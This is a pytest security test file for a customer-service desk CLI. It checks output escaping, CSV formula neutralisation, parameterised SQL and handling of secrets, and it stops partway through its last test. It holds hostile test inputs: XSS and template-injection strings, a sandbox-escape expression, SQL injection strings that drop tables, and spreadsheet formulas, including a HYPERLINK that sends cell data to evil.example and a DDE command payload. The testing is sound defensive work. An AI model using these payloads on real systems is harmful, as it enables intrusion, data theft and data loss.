"""Security properties (SPEC §2, §3, §9, §10, §11):

- reports and alerts show ticket text literally: HTML autoescaped, no template evaluation of data;
- CSV/TSV exports neutralise formula cells (= + - @, tab, CR) and still round-trip through import;
- every SQL statement is parameterised: a static scan of cs/ and jobs/ (with a reasoned whitelist of
  the places that interpolate fixed identifiers), and injection payloads through search, filters,
  writes and import;
- secrets come only from environment variables: the configuration refuses literal ones, and a secret
  in the environment never shows in any output or in the database file, even when delivery fails;
- file modes: the database, its backup and reports are owner-only; `cs db info` warns otherwise;
- roles: configuration, violations and voids are refused to a plain agent once a supervisor exists;
- the audit trail: every kind of change records actor, time (UTC), action and before/after; `cs audit`.
"""

from __future__ import annotations

import ast
import csv
import functools
import html.parser
import io
import json
import os
import pwd
import re
import secrets
import socket
import sqlite3
import stat
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from conftest import schema_validator

REPO = Path(__file__).resolve().parent.parent
NOW = "2026-11-20T17:45:00+08:00"  # a Friday, inside alert hours, after the day shift ended
NOW_UTC = "2026-11-20T09:45:00Z"

PAYLOADS = {
    "script": "<script>alert('x')</script>",
    "template": "{{ 7*7 }} {% if true %}evaluated{% endif %}",
    "ampersand": "Tom & Jerry &amp; <b>bold</b>",
    "attribute": '"><img src=x onerror=alert(1)>',
}


def ok(result):
    assert "Traceback" not in result.stderr, result
    assert result.exit_code == 0, result
    return result


def audit_rows(db_path=None):
    path = db_path or os.environ["CS_DB"]
    with sqlite3.connect(path) as conn:
        conn.row_factory = sqlite3.Row
        rows = [dict(row) for row in conn.execute("SELECT * FROM audit ORDER BY id")]
    conn.close()
    return rows


def free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]  # closed again: nothing listens there


class Recorder:
    """An HTTP server on 127.0.0.1 that records every POST and answers like a chat robot (errcode 0)."""

    def __init__(self):
        self.requests: list[dict] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):  # noqa: N802
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                recorder.requests.append({"path": self.path, "headers": dict(self.headers), "body": body})
                data = json.dumps({"errcode": 0, "errmsg": "ok", "code": 0}).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}/{path}"


@pytest.fixture
def recorder():
    server = Recorder()
    server.thread.start()
    yield server
    server.server.shutdown()
    server.server.server_close()
    server.thread.join(timeout=10)


def load_config(cs, tmp_path, text: str, actor: str = "sue"):
    path = tmp_path / f"centre-{secrets.token_hex(4)}.toml"
    path.write_text(text, encoding="utf-8")
    return cs(["--as", actor, "config", "load", str(path)])


# =========================================================================== reports and alerts


@pytest.fixture
def hostile_day(cs):
    """A day whose every free-text field carries a payload: tickets in all four report buckets,
    an overdue callback, a handover item, an agent and a shift label."""
    ok(cs(["agent", "add", "ann", "--name", PAYLOADS["script"], "--team", "A"]))
    ok(cs(["config", "set", "shift.0.label", "白班" + PAYLOADS["attribute"]]))
    ok(cs(["roster", "set", "2026-11-20", "day", "ann"]))
    at = "2026-11-20T10:00"
    ok(cs(["--as", "ann", "--now", at, "ticket", "add", "--channel", "phone", "--category", "complaint",
           "--summary", PAYLOADS["script"], "--customer", PAYLOADS["ampersand"], "--phone", "13812345678"]))
    ok(cs(["--as", "ann", "--now", at, "ticket", "add", "--channel", "online", "--category", "suggestion",
           "--summary", PAYLOADS["template"], "--tag", "demand"]))
    ok(cs(["--as", "ann", "--now", at, "ticket", "add", "--channel", "email", "--category", "repair",
           "--summary", PAYLOADS["ampersand"], "--tag", "system"]))
    ok(cs(["--as", "ann", "--now", at, "ticket", "add", "--channel", "visit", "--category", "inquiry",
           "--summary", PAYLOADS["attribute"], "--department", PAYLOADS["script"]]))
    ok(cs(["--as", "ann", "--now", "2026-11-20T09:00", "callback", "add", "--phone", "13812345678",
           "--customer", PAYLOADS["template"] + PAYLOADS["script"], "--due", "2026-11-20T11:00"]))
    ok(cs(["--as", "ann", "--now", "2026-11-20T12:00", "handover", "add", PAYLOADS["ampersand"] + PAYLOADS["script"]]))
    return cs


class TagCollector(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)

    def handle_data(self, data):
        self.text += data


# The markup the report templates themselves use: anything else came from the data.
TEMPLATE_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "span", "div", "b", "small",
                 "br", "svg", "text", "line", "rect", "table", "tr", "th", "td", "thead", "tbody", "ul", "li", "em",
                 "strong", "section", "header", "footer", "i", "a", "caption", "colgroup", "col", "g", "path", "figure", "figcaption"}


@pytest.mark.parametrize("argv", [
    ["report", "shift", "--date", "2026-11-20", "--shift", "day", "--format", "html"],
    ["report", "day", "--date", "2026-11-20", "--format", "html"],
    ["report", "shift", "--date", "2026-11-20", "--shift", "day", "--agent", "ann", "--format", "html"],
], ids=["shift", "day", "one agent's shift"])
def test_html_reports_escape_ticket_text(hostile_day, argv):
    page = ok(hostile_day(["--now", NOW] + argv)).stdout
    parser = TagCollector()
    parser.feed(page)
    assert parser.tags <= TEMPLATE_TAGS, parser.tags - TEMPLATE_TAGS
    assert not any(name.startswith("on") for name in parser.attributes), parser.attributes
    assert "<script" not in page.lower() and "<img" not in page.lower()
    # Shown literally: escaped once (no double escaping), and templates in data never evaluated.
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in page
    assert "Tom &amp; Jerry &amp;amp; &lt;b&gt;bold&lt;/b&gt;" in page
    assert "{{ 7*7 }} {% if true %}evaluated{% endif %}" in page
    assert "49 evaluated" not in page
    for payload in PAYLOADS.values():
        assert payload in parser.text or payload.replace("&amp;", "&") in parser.text, payload  # readable as text


@pytest.mark.parametrize("fmt", ["md", "text", "json"])
def test_other_report_formats_show_ticket_text_literally(hostile_day, fmt):
    page = ok(hostile_day(["--now", NOW, "report", "day", "--date", "2026-11-20", "--format", fmt])).stdout
    shown = re.sub(r"\\(.)", r"\1", page) if fmt == "md" else page  # Markdown escapes its specials
    assert "49 evaluated" not in shown and "{{ 7*7 }} {% if true %}evaluated{% endif %}" in shown
    if fmt == "md":
        assert not re.search(r"(?<!\\)<(script|img|b)", page), page  # no raw HTML in Markdown: every < escaped
    if fmt == "json":
        assert PAYLOADS["script"] in json.dumps(json.loads(page), ensure_ascii=False)


def test_a_users_template_runs_sandboxed(hostile_day, tmp_path):
    template = tmp_path / "evil.html.j2"
    template.write_text("{{ ''.__class__.__mro__[1].__subclasses__() }}", encoding="utf-8")
    result = hostile_day(["--now", NOW, "report", "day", "--date", "2026-11-20", "--format", "html",
                          "--template", str(template)])
    assert result.exit_code == 1, result
    assert "Traceback" not in result.stderr and "subclasses" not in result.stdout
    assert "<class" not in result.stdout


def test_the_alert_digest_shows_ticket_text_literally(hostile_day, recorder):
    ok(hostile_day(["config", "set", "channels", f'{{webhook = {{url = "{recorder.url("hook")}", retries = 0}}}}']))
    digest = ok(hostile_day(["--now", NOW, "jobs", "run", "overdue-alerts", "--channel", "stdout"])).stdout
    assert PAYLOADS["template"] + PAYLOADS["script"] in digest  # literal, not evaluated
    assert "49 evaluated" not in digest and "138****5678" in digest and "13812345678" not in digest
    ok(hostile_day(["--now", "2026-11-20T17:50", "jobs", "run", "overdue-alerts", "--channel", "webhook"]))
    assert recorder.requests, "the webhook was not called"
    body = json.loads(recorder.requests[-1]["body"].decode("utf-8"))
    assert PAYLOADS["template"] + PAYLOADS["script"] in body["text"]
    assert "13812345678" not in recorder.requests[-1]["body"].decode("utf-8")


# =========================================================================== CSV exports

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0", "-", "="]


@pytest.fixture
def formula_desk(cs):
    ok(cs(["agent", "add", "ann", "--name", "=1+1", "--team", "@team"]))
    for n, text in enumerate(FORMULAS):
        ok(cs(["--as", "ann", "ticket", "add", "--channel", "phone", "--category", "inquiry", "--summary", text,
               "--customer", "+" + str(n), "--phone", f"1380013800{n}", "--detail", "-detail",
               "--department", "@dept", "--tag", "=tag"]))
    ok(cs(["--as", "ann", "callback", "add", "--phone", "13800138000", "--due", "+3d", "--note", "=note"]))
    ok(cs(["--as", "ann", "handover", "add", "+handover"]))
    return cs


def _cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("fmt, delimiter", [("csv", ","), ("tsv", "\t")])
@pytest.mark.parametrize("argv", [
    ["ticket", "export"], ["ticket", "list"], ["customer", "list"], ["agent", "list"], ["callback", "list"],
    ["handover", "list"], ["ticket", "show", "1"],
], ids=lambda argv: " ".join(argv))
def test_csv_cells_cannot_start_a_formula(formula_desk, argv, fmt, delimiter):
    out = ok(formula_desk(argv + ["--format", fmt])).stdout
    cells = _cells(out, delimiter)
    assert len(cells) > 1
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], dangerous
    if argv == ["ticket", "export"]:
        assert "'" + FORMULAS[0] in cells and "'-2+3" in cells and "'@SUM(A1:A9)" in cells


def test_neutralising_covers_tab_and_carriage_return_and_spares_numbers():
    from cs import output

    out = io.StringIO()
    output.render_list([{"a": "\t=1+1", "c": -2, "d": 1.5, "e": "x=1", "f": ["=a", "b"], "g": "-", "h": True}], "csv",
                       out)
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'\t=1+1", "-2", "1.5", "x=1", "'=a;b", "'-", "true"]
    assert output.neutralise_cell("\r=1+1") == "'\r=1+1"
    assert output.neutralise_cell("@x") == "'@x" and output.neutralise_cell("a@x") == "a@x"


@pytest.mark.parametrize("fmt, delimiter", [("csv", ","), ("tsv", "\t")])
def test_a_carriage_return_cannot_start_a_new_csv_row(cs, fmt, delimiter):
    """A cell holding a bare CR must be quoted: spreadsheets read an unquoted CR as the end of the
    row, and the text after it would begin a new row, un-neutralised (`=1+1`)."""
    added = cs(["agent", "add", "bob", "--name", "Bob\r=1+1", "--team", "T\r@SUM(A1)"])
    if added.exit_code != 0:  # refusing control characters in names is fine too
        assert added.exit_code == 1 and "Traceback" not in added.stderr, added
        return
    out = ok(cs(["agent", "list", "--format", fmt])).stdout
    rows = list(csv.reader(io.StringIO(out, newline=""), delimiter=delimiter, strict=True))
    assert len(rows) == 2, rows
    for line in re.split(r"\r\n|\r|\n", out):
        for cell in line.split(delimiter):
            assert cell.strip('"')[:1] not in ("=", "+", "-", "@"), (line, out)


def test_exported_csv_imports_back_unchanged(formula_desk, tmp_path, monkeypatch):
    exported = ok(formula_desk(["ticket", "export", "--format", "csv"])).stdout
    original = {t["id"]: t for t in ok(formula_desk(["ticket", "export", "--format", "json"])).json()}
    path = tmp_path / "tickets.csv"
    path.write_text(exported, encoding="utf-8")
    monkeypatch.setenv("CS_DB", str(tmp_path / "other.db"))
    ok(formula_desk(["agent", "add", "ann", "--name", "Ann"]))
    ok(formula_desk(["ticket", "import", str(path)]))
    again = {t["id"]: t for t in ok(formula_desk(["ticket", "export", "--format", "json"])).json()}
    for key in ("summary", "detail", "customer_name", "department", "tags"):
        assert {i: t[key] for i, t in again.items()} == {i: t[key] for i, t in original.items()}, key


# =========================================================================== SQL: static scan

SQL_METHODS = {"execute", "executemany", "executescript", "one", "value", "all"}

# Places that build SQL text, each with why no outside value can reach it. (path, function) -> reason.
# Functions that return SQL assembled from fixed fragments and a checked sort (cs/store/query.py): a
# listing that uses them builds SQL at run time and must be reviewed like one that builds it itself.
SQL_BUILDERS = {"listing", "insert_sql"}

SQL_WHITELIST = {
    ("cs/cli/demo.py", "demo"): "table names from a fixed tuple in the code",
    ("cs/demo/generate.py", "__enter__"): "table names from the constant BULK_TABLES; index/trigger names and PRAGMAs "
                                          "read from sqlite_master or fixed tuples (a new file being generated)",
    ("cs/demo/generate.py", "__exit__"): "PRAGMAs from a fixed tuple; index SQL saved from sqlite_master",
    ("cs/demo/generate.py", "build"): "table names from a fixed tuple in the code",
    ("cs/demo/generate.py", "write"): "query.insert_sql over fixed column tuples (tickets.COLUMNS, CALLBACK_COLUMNS …)",
    ("cs/desk/agents.py", "list_agents"): "query.listing: fixed WHERE clauses with :named placeholders; ORDER BY "
                                          "fields checked against SORTABLE; LIMIT bound",
    ("cs/desk/agents.py", "update"): "SET columns are the keys of agents._clean's result: fixed field names; values bound",
    ("cs/desk/callbacks.py", "_change"): "SET columns are the keys of `changes`, built by this module's functions",
    ("cs/desk/callbacks.py", "query"): "query.listing: fixed WHERE clauses with :named placeholders; ORDER BY "
                                       "checked; LIMIT bound; the selected columns the constant LISTED's or c.*",
    ("cs/desk/customers.py", "list_customers"): "query.listing around the constant _SUMMARY_SQL: fixed WHERE clauses "
                                                "with :named placeholders; ORDER BY checked; LIMIT bound",
    ("cs/desk/customers.py", "set_flags"): "SET columns from the fixed keys name/vip/no_callback; values bound",
    ("cs/desk/shifts.py", "_change_handover"): "SET columns are the keys of `changes`, built by this module's functions",
    ("cs/desk/shifts.py", "list_handovers"): "query.listing: fixed WHERE clauses with :named placeholders; ORDER BY "
                                             "checked; LIMIT bound",
    ("cs/desk/tickets.py", "_change"): "SET columns are the keys of `changes`, built by this module's functions",
    ("cs/desk/tickets.py", "add"): "tickets.INSERT_SQL: query.insert_sql over the fixed COLUMNS tuple; values bound",
    ("cs/desk/tickets.py", "query"): "query.listing: fixed WHERE clauses with :named placeholders (search terms "
                                     "bound, never inlined); ORDER BY checked over SORT_SQL; LIMIT bound",
    ("jobs/overdue_alerts.py", "_open_deliveries"): "one ? per channel name; the names are bound",
    ("cs/desk/dispatch.py", "query"): "query.listing: fixed WHERE clauses with :named placeholders; ORDER BY checked;"
                                      " LIMIT bound",
    ("cs/exchange/tickets.py", "begin"): "index names read from sqlite_master (the desk's own schema), quoted; the"
                                         " kept names are ? placeholders",
    ("cs/exchange/calls.py", "_write"): "the fixed _FIELDS tuple and one ? per unique id; values bound",
    ("cs/demo/tour.py", "_calls"): "query.insert_sql over the fixed CALL_COLUMNS tuple; values bound",
    ("cs/calls/figures.py", "agent_rows"): "the fixed _SUMS expressions and ?-placeholders, one per agent",
    ("cs/calls/figures.py", "_sums_in"): "the fixed _SUMS expressions, a (?, ?, ?) per window and a ? per agent",
    ("cs/desk/visits.py", "_run_period"): "the scope clause from _scope_sql: one of three fixed texts, the tag bound",
    ("cs/reports/figures.py", "agent_names"): "one ? per handle; the handles are bound",
    ("cs/reports/figures.py", "_by_ids"): "the constant _TICKET or _CALLBACK select and one ? per id",
    ("cs/reports/figures.py", "_undo_later"): "table and key from a fixed dict keyed by 'ticket'/'callback'; one ? per "
                                              "id",
    ("cs/reports/figures.py", "callback_figures"): "agent filter from _agent_filter: a fixed column and one ? per "
                                                   "agent",
    ("cs/scoring/appeals.py", "query"): "query.listing: fixed WHERE clauses with :named placeholders; ORDER BY "
                                        "checked; LIMIT bound",
    ("cs/scoring/deductions.py", "query"): "query.listing: fixed WHERE clauses with :named placeholders; ORDER BY "
                                           "checked; LIMIT bound",
    ("cs/scoring/violations.py", "list_violations"): "query.listing: fixed WHERE clauses with :named placeholders; "
                                                     "ORDER BY checked; LIMIT bound",
    ("cs/store/audit.py", "query"): "query.listing: WHERE columns fixed, values bound; ORDER BY checked; LIMIT bound",
    ("cs/store/db.py", "connect"): "PRAGMA busy_timeout = int() of the module constant BUSY_TIMEOUT_S",
    ("cs/store/db.py", "insert_rows"): "query.insert_sql over the caller's fixed table and column tuple "
                                       "(tickets.COLUMNS for an import); values bound",
    ("cs/store/db.py", "_null_default_columns"): "PRAGMA table_info of insert_rows' table: a fixed name in the code",
    ("cs/store/migrations.py", "run_script"): "runs the migrations' own constant SQL text, statement by statement",
    ("cs/store/query.py", "one_or_refuse"): "runs the SQL its callers pass: each a constant string with ? placeholders",
    ("cs/store/upkeep.py", "info"): "table names from the fixed TABLES tuple, checked against sqlite_master",
}


def _sql_sources() -> list[Path]:
    return sorted(p for root in ("cs", "jobs") for p in (REPO / root).rglob("*.py"))


class _SqlBuilders(ast.NodeVisitor):
    """Calls of execute/executemany/one/value/all whose SQL is built from pieces at run time:
    an f-string with substitutions, `%`, `+` with a non-constant part, `.format()` or `.join()` —
    directly, or through a local (or module) variable assigned such a value."""

    def __init__(self, tree):
        self.found: list[tuple[str, int, str]] = []  # (function, line, source)
        self.stack: list[tuple[str, dict]] = []  # (function name, its local assignments)
        self.module_names = self._assignments(tree.body)

    @staticmethod
    def _assignments(statements) -> dict:
        names: dict[str, list] = {}
        for n in (node for statement in statements for node in ast.walk(statement)):
            if isinstance(n, ast.Assign):
                for target in n.targets:
                    if isinstance(target, ast.Name):
                        names.setdefault(target.id, []).append(n.value)
                    elif isinstance(target, ast.Tuple):  # sql, params = listing(...)
                        for element in target.elts:
                            if isinstance(element, ast.Name):
                                names.setdefault(element.id, []).append(n.value)
            elif isinstance(n, ast.AnnAssign) and isinstance(n.target, ast.Name) and n.value is not None:
                names.setdefault(n.target.id, []).append(n.value)
            elif isinstance(n, ast.AugAssign) and isinstance(n.target, ast.Name):
                names.setdefault(n.target.id, []).append(ast.BinOp(left=ast.Constant(""), op=n.op, right=n.value))
        return names

    def _constant(self, node, local, seen=()) -> bool:
        if isinstance(node, ast.Constant):
            return isinstance(node.value, str)
        if isinstance(node, ast.JoinedStr):
            return not any(isinstance(v, ast.FormattedValue) for v in node.values)
        if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
            return self._constant(node.left, local, seen) and self._constant(node.right, local, seen)
        if isinstance(node, ast.Name) and node.id not in seen:
            values = local.get(node.id) or self.module_names.get(node.id) or []
            return bool(values) and all(self._constant(v, {}, seen + (node.id,)) for v in values)
        return False

    def _built(self, node, local, seen=()) -> bool:
        if isinstance(node, ast.JoinedStr):
            return any(isinstance(v, ast.FormattedValue) for v in node.values)
        if isinstance(node, ast.IfExp):  # f"…{a}" if x else "…"
            return self._built(node.body, local, seen) or self._built(node.orelse, local, seen)
        if isinstance(node, ast.BinOp) and isinstance(node.op, (ast.Add, ast.Mod)):
            return not self._constant(node, local)
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in ("format", "join"):
            return True
        if isinstance(node, ast.Call) and getattr(node.func, "id", getattr(node.func, "attr", None)) in SQL_BUILDERS:
            return True
        if isinstance(node, ast.Name) and node.id not in seen:
            values = local.get(node.id, []) + self.module_names.get(node.id, [])
            return any(self._built(v, local, seen + (node.id,)) for v in values)
        return False

    def _visit_function(self, node):
        own = [child for child in node.body]
        self.stack.append((node.name, self._assignments(own)))
        self.generic_visit(node)
        self.stack.pop()

    visit_FunctionDef = visit_AsyncFunctionDef = _visit_function  # noqa: N815

    def visit_Call(self, node):  # noqa: N802
        if (isinstance(node.func, ast.Attribute) and node.func.attr in SQL_METHODS and node.args):
            name, local = self.stack[-1] if self.stack else ("<module>", {})
            if self._built(node.args[0], local):
                self.found.append((name, node.lineno, ast.unparse(node.args[0])[:80]))
        self.generic_visit(node)


def _scan(code: str, filename: str = "<test>") -> list[tuple[str, int, str]]:
    tree = ast.parse(code, filename)
    visitor = _SqlBuilders(tree)
    visitor.visit(tree)
    return visitor.found


@functools.lru_cache(maxsize=1)
def _sql_builders_cached(stamp) -> dict:
    found: dict = {}
    for path in _sql_sources():
        for function, line, source in _scan(path.read_text(encoding="utf-8"), str(path)):
            found.setdefault((str(path.relative_to(REPO)), function), []).append((line, source))
    return found


def sql_builders() -> dict[tuple[str, str], list[tuple[int, str]]]:
    return _sql_builders_cached(tuple((str(p), p.stat().st_mtime_ns) for p in _sql_sources()))


def test_sql_is_built_only_where_whitelisted():
    unexpected = {key: calls for key, calls in sql_builders().items() if key not in SQL_WHITELIST}
    assert not unexpected, (
        "SQL built from run-time pieces outside the whitelist; bind values with ? / :name, or add the place to "
        f"SQL_WHITELIST with the reason no outside value can reach it: {unexpected}")


def test_the_sql_whitelist_has_no_stale_entries():
    stale = sorted(key for key in SQL_WHITELIST if key not in sql_builders())
    assert not stale, f"these SQL_WHITELIST entries no longer build SQL; remove them: {stale}"


def test_the_scanner_finds_what_it_is_meant_to_find():
    code = '''
LIMIT = " LIMIT 5"
BASE = "SELECT * FROM t"
def bad(db, name, n):
    db.execute(f"SELECT * FROM t WHERE name = '{name}'")
    db.one("SELECT * FROM t WHERE name = '%s'" % name)
    db.all("SELECT * FROM t WHERE name = '" + name + "'")
    sql = "SELECT * FROM t WHERE n = {}".format(n)
    db.value(sql)
    q = BASE
    q += " WHERE " + " AND ".join(name)
    db.executemany(q, [])
    sql, params = listing("SELECT * FROM t", filters, name, ALLOWED)
    db.all(sql, params)
    pragma = f"PRAGMA {name}.table_info(t)" if name else "PRAGMA table_info(t)"
    db.execute(pragma)
def good(db, name):
    db.execute("SELECT * FROM t WHERE name = ?", (name,))
    db.all(BASE + LIMIT)
    db.one(f"SELECT 1")
'''
    assert [(f, line) for f, line, _ in _scan(code)] == [("bad", 5), ("bad", 6), ("bad", 7), ("bad", 9), ("bad", 12),
                                                      ("bad", 14), ("bad", 16)]


# =========================================================================== SQL: injection payloads

INJECTIONS = ["'; DROP TABLE tickets; --", "%' OR 1=1 --", "\" OR \"\"=\"", "1; DELETE FROM audit", "*", "%", "_",
              "') OR ('1'='1", "ann' --"]


@pytest.fixture
def injected(cs, tmp_path):
    ok(cs(["agent", "add", "ann", "--name", "Ann", "--team", "A"]))
    for n, payload in enumerate(INJECTIONS):
        ok(cs(["--as", "ann", "ticket", "add", "--channel", "phone", "--category", "inquiry",
               "--summary", f"payload {payload}", "--customer", payload, "--phone", f"1390000000{n}",
               "--detail", payload, "--department", payload]))
    ok(cs(["--as", "ann", "ticket", "add", "--channel", "phone", "--category", "inquiry", "--summary", "plain"]))
    rows = "\n".join(json.dumps({"opened_at": "2026-11-20T08:00:00+08:00", "channel": "phone", "category": "inquiry",
                                 "summary": f"imported {p}", "customer_name": p, "department": p}) for p in INJECTIONS)
    path = tmp_path / "payloads.jsonl"
    path.write_text(rows + "\n", encoding="utf-8")
    ok(cs(["ticket", "import", str(path)]))
    return cs


def _table_counts(path=None) -> dict:
    with sqlite3.connect(path or os.environ["CS_DB"]) as conn:
        names = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        counts = {name: conn.execute(f'SELECT COUNT(*) FROM "{name}"').fetchone()[0] for name in names}
    conn.close()
    return counts


@pytest.mark.parametrize("payload", INJECTIONS)
def test_injection_payloads_are_data_in_filters(injected, payload):
    before = _table_counts()
    total = len(INJECTIONS) * 2 + 1
    assert len(ok(injected(["ticket", "list", "--json"])).json()) == total
    for argv in (["ticket", "list", "--agent", payload], ["ticket", "list", "--tag", payload],
                 ["callback", "list", "--agent", payload], ["agent", "list", "--team", payload],
                 ["deductions", "list", "--agent", payload], ["violation", "list", "--agent", payload],
                 ["audit", "--actor", payload], ["audit", "--entity", payload], ["audit", "--action", payload]):
        result = injected(argv + ["--json"])
        assert result.exit_code == 0 and result.json() == [], (argv, result)
    # The payload finds exactly the records that contain it, never all of them.
    found = ok(injected(["ticket", "list", "--search", payload, "--json"])).json()
    assert found and all(payload in (t["summary"] + (t["detail"] or "")) for t in found), found
    assert len(found) < total
    customers = ok(injected(["customer", "list", "--search", payload, "--json"])).json()
    assert all(payload in (c["name"] or "") + c["phone"] for c in customers)
    assert _table_counts() == before


def test_injection_payloads_are_stored_literally(injected):
    exported = ok(injected(["ticket", "export", "--format", "json"])).json()
    for payload in INJECTIONS:
        assert f"payload {payload}" in [t["summary"] for t in exported]
        assert f"imported {payload}" in [t["summary"] for t in exported]
        assert sum(t["customer_name"] == payload and t["department"] == payload for t in exported) == 2
    ok(injected(["ticket", "update", "1", "--summary", INJECTIONS[0], "--department", INJECTIONS[1]]))
    shown = ok(injected(["ticket", "show", "1", "--json"])).json()
    assert shown["summary"] == INJECTIONS[0] and shown["department"] == INJECTIONS[1]
    ok(injected(["agent", "add", "bob", "--name", INJECTIONS[0], "--team", INJECTIONS[1]]))
    assert ok(injected(["agent", "show", "bob", "--json"])).json()["name"] == INJECTIONS[0]
    counts = _table_counts()
    assert counts["tickets"] == len(INJECTIONS) * 2 + 1 and counts["agents"] == 2


def test_an_unknown_sort_field_cannot_reach_order_by(injected):
    from cs.core.errors import CSError
    from cs.store import query

    for sort in ("id; DROP TABLE tickets", "(SELECT 1)", "id DESC, (CASE WHEN 1 THEN id END)"):
        with pytest.raises(CSError):
            query.order_by(sort, {"id", "opened_at"})
        assert injected(["ticket", "list", "--sort", sort]).exit_code == 2
    assert _table_counts()["tickets"] == len(INJECTIONS) * 2 + 1


# =========================================================================== secrets

SECRETS = {
    "CS_DINGTALK_SECRET": "SECdt" + secrets.token_hex(16),
    "CS_FEISHU_SECRET": "fs" + secrets.token_hex(16),
    "CS_WEBHOOK_TOKEN": "tok-" + secrets.token_hex(16),
    "CS_SMTP_USER": "user-" + secrets.token_hex(6),
    "CS_SMTP_PASSWORD": "pw-" + secrets.token_hex(12),
}


def assert_no_secret(text: str, where: str) -> None:
    for name, value in SECRETS.items():
        assert value not in text, f"the value of {name} appears in {where}"


def assert_no_secret_in_files(db_path: Path) -> None:
    """The database, its -wal and -shm, and the job lock files beside it."""
    files = [p for p in db_path.parent.iterdir() if p.is_file() and p.name.startswith(db_path.name)]
    assert db_path in files
    for path in files:
        assert_no_secret(path.read_bytes().decode("latin-1"), str(path))


@pytest.mark.parametrize("table, key", [
    ("dingtalk", "secret"), ("feishu", "secret"), ("webhook", "token"), ("webhook", "secret"),
    ("email", "password"), ("email", "user"), ("wecom", "key"),
])
def test_the_configuration_refuses_literal_secrets(cs, tmp_path, table, key):
    value = SECRETS["CS_DINGTALK_SECRET"]
    required = {"email": 'host = "127.0.0.1"\nsender = "cs@example.com"\n'}.get(table, 'url = "https://example.com/x"\n')
    result = load_config(cs, tmp_path, f"[channels.{table}]\n{required}{key} = \"{value}\"\n")
    assert result.exit_code == 1 and "Error" in result.stderr, result
    result = cs(["config", "set", f"channels.{table}", "{ " + required.strip().replace("\n", ", ")
                 + f', {key} = "{value}" }}'])
    assert result.exit_code == 1, result
    assert_no_secret(result.stdout + result.stderr, "the refusal")
    assert_no_secret_in_files(Path(os.environ["CS_DB"]))


@pytest.fixture
def alerting(cs, monkeypatch, tmp_path):
    """Secrets in the environment, a supervisor, an overdue callback, and a run() that keeps every output."""
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    outputs: list[str] = []

    def run(args, expect=0):
        result = cs(args)
        outputs.append(result.stdout + result.stderr)
        assert "Traceback" not in result.stderr, result
        assert result.exit_code == expect, result
        return result

    run(["agent", "add", "sue", "--name", "Sue", "--role", "supervisor", "--email", "sue@example.com",
         "--mobile", "13900000006"])
    run(["--as", "sue", "agent", "add", "ann", "--name", "Ann", "--team", "A", "--email", "ann@example.com",
         "--mobile", "13900000001"])
    run(["--as", "ann", "--now", "2026-11-20T09:00", "callback", "add", "--phone", "13812345678", "--due",
         "2026-11-20T10:00"])
    run.outputs = outputs
    run.tmp_path = tmp_path
    return run


def _channels_toml(dingtalk_url, webhook_url, feishu_url, smtp_port) -> str:
    return (f'[alerts]\nchannels = ["dingtalk", "webhook", "feishu", "email"]\n\n'
            f'[channels.dingtalk]\nurl = "{dingtalk_url}"\nsecret_env = "CS_DINGTALK_SECRET"\nretries = 0\ntimeout = 3\n\n'
            f'[channels.webhook]\nurl = "{webhook_url}"\ntoken_env = "CS_WEBHOOK_TOKEN"\nretries = 0\ntimeout = 3\n\n'
            f'[channels.feishu]\nurl = "{feishu_url}"\nsecret_env = "CS_FEISHU_SECRET"\nretries = 0\ntimeout = 3\n\n'
            f'[channels.email]\nhost = "127.0.0.1"\nport = {smtp_port}\nsender = "cs@example.com"\nstarttls = true\n'
            f'user_env = "CS_SMTP_USER"\npassword_env = "CS_SMTP_PASSWORD"\ntimeout = 3\n')


def _check_everything_for_secrets(run):
    for argv in (["config", "show"], ["config", "show", "--json"], ["config", "show", "--stored"],
                 ["config", "get", "channels"], ["config", "versions", "--json"], ["jobs", "status", "--json"],
                 ["db", "info", "--json"], ["audit", "--json"]):
        run(argv)
    for text in run.outputs:
        assert_no_secret(text, "an output")
    assert_no_secret_in_files(Path(os.environ["CS_DB"]))


def test_secrets_are_used_but_never_printed_or_stored(alerting, recorder):
    port = free_port()
    text = _channels_toml(recorder.url("dingtalk?access_token=x"), recorder.url("webhook"), recorder.url("feishu"),
                          port)
    path = alerting.tmp_path / "centre.toml"
    path.write_text(text, encoding="utf-8")
    alerting(["--as", "sue", "config", "load", str(path)])
    result = alerting(["--now", "2026-11-20T10:30", "jobs", "run", "overdue-alerts", "--json"], expect=1)
    sent = {a["channel"] for a in json.loads(result.stdout)["alerts"] if a["status"] == "sent"}
    assert sent == {"dingtalk", "webhook", "feishu"}  # e-mail fails: nothing listens on its port
    # The secrets were really used: the robot saw a signature and the bearer token.
    by_path = {r["path"].split("?")[0]: r for r in recorder.requests}
    assert "sign=" in by_path["/dingtalk"]["path"]
